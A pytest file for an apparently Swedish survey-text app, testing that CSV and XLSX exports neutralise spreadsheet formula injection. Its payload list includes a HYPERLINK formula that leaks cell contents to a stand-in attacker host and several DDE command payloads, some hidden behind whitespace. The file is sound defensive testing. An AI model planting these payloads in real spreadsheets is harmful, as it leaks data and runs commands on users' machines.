"""Formula injection: hostile answers imported through the real app must come out of the
CSV and XLSX exports as text, never as formulas (nlp/spreadsheet.py)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import Engine, select

from nlp.jobs import EmbeddedWorker
from nlp.spreadsheet import FORMULA_TRIGGERS, csv_text, neutralise_csv_cell, xlsx_bytes
from nlp.store.db import session_scope
from nlp.store.models import Classification, RecordRow
from tests.conftest import EXAMPLE_EXPORT
from tests.test_api_support import auth, client, seeded  # noqa: F401

# The security review's payloads: links that leak neighbouring cells, DDE commands, and
# the same behind a tab, a carriage return or leading spaces.
HOSTILE = [
    '=HYPERLINK("http://angripare.example/?x="&A1&B1, "Klicka här för mer information")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 efter en tabb",
    "\r=1+1 efter vagnretur",
    "   =1+1 efter mellanslag",
]
HOSTILE_UNIT = '=HYPERLINK("http://angripare.example/", "Vårdcentral")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\n@x", "'\n@x"),
        ("Bra bemötande = trygghet", "Bra bemötande = trygghet"),
        ("", ""),
        ("Hej", "Hej"),
        (-5, -5),
        (0.25, 0.25),
        (None, None),
    ],
)
def test_csv_cells_that_start_a_formula_get_a_quote(value: Any, expected: Any) -> None:
    assert neutralise_csv_cell(value) == expected


def test_xlsx_text_is_never_a_formula_and_is_kept_exactly() -> None:
    data = xlsx_bytes(
        ["=rubrik", "tal"], [[text, i] for i, text in enumerate(HOSTILE)] + [["kontrolltecken \x01\x07 tas bort", -1]]
    )
    ws = load_workbook(io.BytesIO(data))["svar"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    # Kept exactly as written, a carriage return too.
    assert [ws.cell(row=i + 2, column=1).value for i in range(len(HOSTILE))] == list(HOSTILE)
    assert ws.cell(row=1, column=1).value == "=rubrik"
    assert ws.cell(row=2, column=2).data_type == "n"  # numbers stay numbers
    assert ws.cell(row=len(HOSTILE) + 2, column=1).value == "kontrolltecken  tas bort"


def test_csv_text_quotes_every_hostile_cell() -> None:
    text = csv_text(["=rubrik"], [[t] for t in HOSTILE])
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows[0] == ["'=rubrik"] and [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE]


def _hostile_export(n: int = 30) -> bytes:
    """The example export's first rows, with hostile answers and a hostile unit."""
    lines = EXAMPLE_EXPORT.read_text(encoding="utf-8-sig").splitlines()[: n + 1]
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    rows = list(csv.reader(lines, delimiter=";"))
    writer.writerow(rows[0])
    for i, row in enumerate(rows[1:]):
        if i < len(HOSTILE):
            row[7] = HOSTILE[i]  # "Vad kan bli bättre?"
            row[2] = HOSTILE_UNIT
        writer.writerow(row)
    return out.getvalue().encode("utf-8")


def _is_dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_TRIGGERS) or cell.lstrip().startswith(FORMULA_TRIGGERS)


def test_exports_of_hostile_answers_hold_no_formulas(
    client: TestClient, seeded: dict[str, Any], auth: Any, engine: Engine, tmp_path: Path
) -> None:
    h = auth("analytiker")
    up = client.post(
        f"/api/projects/{seeded['project_a']}/uploads",
        headers=h,
        files={"fil": ("fientlig.csv", _hostile_export(), "text/csv")},
    )
    assert up.status_code in (200, 201), up.text
    job = up.json()["job"]
    r = client.post(
        f"/api/jobs/{job['id']}/start",
        headers=h,
        json={"text_columns": ["Vad fungerar bra?", "Vad kan bli bättre?"], "taxonomy": "samsjuklighet"},
    )
    assert r.status_code == 200, r.text
    EmbeddedWorker(engine).run_pending()
    done = client.get(f"/api/jobs/{job['id']}", headers=h).json()
    assert done["status"] == "klar", done["error"]
    run_id = done["run_id"]
    with session_scope(engine) as s:
        stored = dict(
            s.execute(
                select(RecordRow.id, RecordRow.text)
                .join(Classification, Classification.record_id == RecordRow.id)
                .where(Classification.run_id == run_id)
            ).all()
        )
        units = set(s.scalars(select(RecordRow.unit).where(RecordRow.id.in_(stored))))
    hostile_ids = {rid for rid, text in stored.items() if _is_dangerous(text)}
    # The attack reaches the export: most payloads survive ingest and pseudonymisation.
    assert len(hostile_ids) >= 5 and HOSTILE_UNIT in units

    x = client.get(f"/api/runs/{run_id}/export", headers=h, params={"format": "xlsx"})
    assert x.status_code == 200
    ws = load_workbook(io.BytesIO(x.content))["svar"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert len(cells) > 100
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == []
    header = [c.value for c in next(ws.iter_rows(max_row=1))]
    by_id = {row[0]: row for row in ws.iter_rows(min_row=2, values_only=True)}
    text_col, unit_col = header.index("Svar (pseudonymiserat)"), header.index("Verksamhet")
    for rid in hostile_ids:  # kept exactly, as text
        assert by_id[rid][text_col] == stored[rid].replace("\r", "\n")
    assert HOSTILE_UNIT in {row[unit_col] for row in by_id.values()}

    c = client.get(f"/api/runs/{run_id}/export", headers=h, params={"format": "csv"})
    assert c.status_code == 200
    rows = list(csv.reader(io.StringIO(c.text.lstrip("\ufeff")), delimiter=";"))
    dangerous = [cell for row in rows for cell in row if _is_dangerous(cell)]
    assert dangerous == []
    records = {int(r[0]): r for r in rows[1:]}
    for rid in hostile_ids:
        assert records[rid][rows[0].index("Svar (pseudonymiserat)")] == "'" + stored[rid]
    assert "'" + HOSTILE_UNIT in {r[rows[0].index("Verksamhet")] for r in records.values()}
